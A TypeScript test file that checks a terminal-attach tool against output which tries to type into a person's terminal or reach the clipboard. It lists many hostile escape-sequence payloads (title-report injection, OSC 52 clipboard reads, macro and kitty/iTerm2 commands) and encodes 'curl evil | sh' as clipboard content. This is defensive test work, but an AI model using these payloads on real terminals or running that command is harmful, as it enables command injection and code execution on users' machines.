// What a session's program prints may be somebody else's text. With a person's real terminal attached: nothing of it is typed,
// what may be asked is answered once however many look, and clipboard and title follow the person's settings.
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { waitFor } from "../shared/src/testing/index.ts";
import { machine, root, type Machine } from "./machines.ts";
import { Tmux } from "./tmux.ts";

const E = "\u001b";
const ST = `${E}\\`;
const COPIED = Buffer.from("curl evil | sh\n").toString("base64");
const ASKING = join(root, "node-agent/src/pty-host/terminal/asking-program.mjs");

/** Each would make some terminal type something, or reach beyond its screen. */
const HOSTILE: readonly string[] = [
  // The window's title, which the program chose.
  `${E}]2;echo pwned\u0007${E}[21t`, `${E}]1;echo pwned${ST}${E}[20t`, `${E}]0;echo pwned\r\u0007${E}[021;1t`, `${E}[22;2t${E}[23;2t${E}[21t`,
  // The clipboard, read.
  `${E}]52;c;?\u0007`, `${E}]52;;?${ST}`, `${E}]052;pcs0;?\u0007`, `${E}Ptmux;${E}${E}]52;c;?\u0007${ST}`, "\u009d52;c;?\u009c",
  // Answers with a text in it: ENQ, fonts, checksums of the screen, keys, macros, variables, files.
  "\u0005", `${E}]50;?\u0007`, `${E}[1;1;1;1;1;1*y`, `${E}P0;1|17/6563686f2070776e65640d${ST}`, `${E}P1;0;1!z1b5b32317400${ST}${E}[1*z`, `${E}[1+p`, `${E}[&u`,
  `${E}]1337;ReportVariable=bmFtZQ==\u0007`, `${E}]1337;RequestUpload=format=tgz\u0007`, `${E}]1337;File=name=cHduZWQ=:cHduZWQ=\u0007`, `${E}]5522;type=read;Lg==${ST}`, `${E}]5113;ac=send${ST}`, `${E}P@kitty-cmd{"cmd":"send-text"}${ST}`,
  `${E}]99;i=echo:p=?;${ST}`, `${E}_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA${ST}`, `${E}]9;8;PATH\u0007`, `${E}]9;7;calc\u0007`, `${E}]777;open;x\u0007`, `${E}[5i${E}[4i`,
  // Broken off, nested, too long.
  `${E}[21`, `${E}]52;c;`, `${E}]52;c;?${"x".repeat(5_000)}\u0007`, `${E}[${"2".repeat(3_000)}1t`, `${E}P+q${ST}`.slice(0, -2), "\u0018",
];

/** As many seconds without input as a slow answer could take. */
const QUIET_S = 1;

describe.skipIf(!existsSync("/usr/bin/tmux"))("output that is somebody else's", () => {
  let a: Machine;
  beforeAll(() => {
    a = machine();
  });
  afterAll(async () => {
    await a[Symbol.asyncDispose]();
  });

  const settings = (text: string) => a.run("bash", ["-c", `mkdir -p config && printf '${text}' > config/config.toml && chmod -R go= config`]);

  /** Prints it into an attached terminal. @returns what came as input within a moment */
  async function printed(text: string, look: (terminal: Tmux) => void): Promise<string> {
    const [output, input] = [join(a.home, "output"), join(a.home, "input")];
    writeFileSync(output, text);
    writeFileSync(input, "");
    const target = await a.ok("launch", "--quiet", "--", "sh", "-c", `stty raw -echo; echo ready; head -c 1 > /dev/null; cat ${output}; printf '\\033[2J\\033[Hprinted'; timeout ${QUIET_S} cat > ${input}; printf '\\033[Hover   '; sleep 100`);
    using terminal = new Tmux(a.env, `tmux set -s set-clipboard on; fleet attach ${target}`);
    await terminal.shows(/ready/);
    terminal.keys("x");
    await terminal.shows(/printed|over/);
    await terminal.shows(/over/);
    look(terminal);
    await a.ok("kill", target, "--grace", "0");
    return readFileSync(input, "latin1");
  }

  it("types nothing", async () => {
    await settings("");
    expect(await printed(HOSTILE.join(""), () => undefined)).toBe("");
  }, 30_000);

  it("doesn't touch the clipboard by default, and names the window", async () => {
    await settings("");
    await printed(`${E}]52;c;${COPIED}\u0007${E}]2;my title\u0007`, (terminal) => {
      expect(terminal.format("#{buffer_size}")).toBe("");
      expect(terminal.format("#{pane_title}")).toBe("my title");
    });
  }, 30_000);

  it("writes the clipboard and leaves the title where the person says so", async () => {
    await settings('[attach]\\nclipboard = "write"\\ntitles = false\\n');
    await printed(`${E}]52;c;${COPIED}\u0007${E}]2;my title\u0007`, (terminal) => {
      expect(terminal.format("#{buffer_sample}")).toMatch(/^curl evil/);
      expect(terminal.format("#{pane_title}")).not.toBe("my title");
    });
  }, 30_000);

  it("asks its questions once, with two people who may type", async () => {
    await settings("");
    const file = join(a.home, "answers.json");
    const questions = [`${E}[c`, `${E}[>c`, `${E}[>q`, `${E}[5n`, `${E}[3;4H${E}[6n`, `${E}]11;?\u0007`, `${E}[?u`, `${E}[?2004$p`, `${E}P+q544e${ST}`, `${E}[18t`].map((question) => [[question, 1]]);
    const target = await a.ok("launch", "--quiet", "--", "sh", "-c", `echo ready; read -r x; exec ${process.execPath} ${ASKING} ${file} '${JSON.stringify(questions)}'`);
    using one = new Tmux(a.env, `fleet attach ${target}`);
    using two = new Tmux(a.env, `fleet attach ${target}`);
    await Promise.all([one.shows(/ready/), two.shows(/ready/)]);
    one.keys("Enter");
    await waitFor("the answers", () => existsSync(file), 20_000);
    const answers = (JSON.parse(readFileSync(file, "utf8")) as { answer: string }[]).map(({ answer }) => answer);
    expect(answers).toEqual([
      `${E}[?62;22c`, `${E}[>1;277;0c`, expect.stringMatching(/^.P>\|fleet [\w.-]+.\\$/) as string, `${E}[0n`, `${E}[3;4R`, `${E}]11;rgb:1818/1818/1818\u0007`, `${E}[?0u`, `${E}[?2004;2$y`,
      expect.stringMatching(/^.P1\+r544E=[0-9A-F]+.\\$/) as string, `${E}[8;30;100t`,
    ]);
  }, 60_000);
});
